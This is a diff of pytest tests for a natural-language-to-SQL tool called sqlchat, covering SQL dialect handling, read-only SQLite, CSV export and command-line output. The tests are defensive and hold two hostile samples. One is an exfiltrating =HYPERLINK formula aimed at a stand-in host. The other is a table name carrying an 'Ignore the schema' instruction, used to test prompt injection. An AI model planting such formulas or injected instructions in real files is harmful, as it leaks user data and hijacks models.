@@ -283,3 +283,89 @@ def test_control_characters_in_names_never_reach_the_prompt(tmp_path: Path) -> N
         context = render_context(reflect_schema(db).tables)
     assert "\n" not in context and "\r" not in context and "\x1b" not in context
     assert "Ignore the schema" in context  # the name is kept, on the one line it belongs to
+
+
+# --------------------------------------------------------------------------- robustness
+
+
+def test_json_each_runs_on_sqlite(chinook_path: Path) -> None:
+    with connect(chinook_path) as db:
+        result = execute(db, check_sql("SELECT key, value FROM json_each('[10, 20]')", "sqlite"), ONE_SECOND)
+    assert result.frame.values.tolist() == [[0, 10], [1, 20]]
+
+
+@pytest.mark.parametrize("dialect", ["sqlite", "mysql"])
+def test_derived_table_column_aliases_are_kept(dialect: str, chinook_path: Path) -> None:
+    checked = check_sql("SELECT x, y FROM (SELECT 1, 2) AS a(x, y)", dialect)
+    assert "1 AS x" in checked.sql
+    if dialect == "sqlite":
+        with connect(chinook_path) as db:
+            assert execute(db, checked, ONE_SECOND).frame.values.tolist() == [[1, 2]]
+
+
+def test_regexp_stays_regexp_for_mariadb() -> None:
+    assert "REGEXP_LIKE" not in check_sql("SELECT Name FROM Artist WHERE Name REGEXP '^A'", "mysql").sql
+
+
+@pytest.mark.mariadb
+def test_regexp_runs_on_mariadb(mysql_url: str) -> None:
+    with connect(mysql_url) as db:
+        checked = check_sql("SELECT 'Abba' REGEXP '^A' AS m, x FROM (SELECT 1, 2) AS a(x, y)", "mysql")
+        assert execute(db, checked, ONE_SECOND).frame.values.tolist() == [[1, 1]]
+
+
+def test_csv_downloads_never_carry_formulas() -> None:
+    import pandas as pd
+
+    from sqlchat.export import csv_bytes
+
+    frame = pd.DataFrame({"=name": ['=HYPERLINK("http://x.example/?"&A1,"Click")', "+1", "-2", "@SUM(A1)", "Ann"],
+                          "n": [1, -2, 3, 4, 5]})
+    lines = csv_bytes(frame).decode().splitlines()
+    assert lines[0] == "'=name,n"
+    assert [line.split(",")[0] for line in lines[2:]] == ["'+1", "'-2", "'@SUM(A1)", "Ann"]
+    assert lines[1].startswith("\"'=HYPERLINK") and lines[3].endswith(",3") and lines[2].endswith(",-2")
+
+
+def test_a_wal_mode_file_opened_read_only_leaves_no_files(tmp_path: Path) -> None:
+    path = tmp_path / "wal.sqlite"
+    with sqlite3.connect(path) as conn:
+        conn.execute("PRAGMA journal_mode = WAL")
+        conn.execute("CREATE TABLE t (a INT)")
+        conn.execute("INSERT INTO t VALUES (1)")
+    conn.close()
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["wal.sqlite"]
+    with connect(path) as db:
+        assert run(db, "SELECT a FROM t").frame["a"].tolist() == [1]
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["wal.sqlite"]
+
+
+def test_a_csv_with_too_many_columns_is_one_sentence(tmp_path: Path) -> None:
+    path = tmp_path / "wide.csv"
+    path.write_text(",".join(f"c{i}" for i in range(5000)) + "\n" + ",".join("1" for _ in range(5000)) + "\n")
+    with pytest.raises(ConnectionFailed) as info:
+        connect(path)
+    assert "5,000 columns" in info.value.message
+
+
+def test_binary_cells_print_as_json_from_the_cli(chinook_path: Path) -> None:
+    import json
+    import subprocess
+    import sys
+
+    root = Path(__file__).resolve().parents[1]
+    done = subprocess.run([sys.executable, "-m", "sqlchat", "sql", "--db", str(chinook_path), "--json",
+                           "SELECT X'00ff' AS b FROM Track LIMIT 1"], cwd=root, capture_output=True, text=True,
+                          timeout=120)
+    assert done.returncode == 0, done.stderr
+    assert json.loads(done.stdout)["rows"] == [["0x00ff"]]
+
+
+@pytest.mark.mariadb
+def test_history_on_a_bare_mysql_url_uses_pymysql(mysql_url: str) -> None:
+    from sqlchat.history import HistoryStore
+
+    bare = "mysql://" + mysql_url.split("://", 1)[1]
+    with HistoryStore(bare) as store:
+        store.log_question("How many?", None, "ok")
+        assert [q.question for q in store.recent_questions()] == ["How many?"]
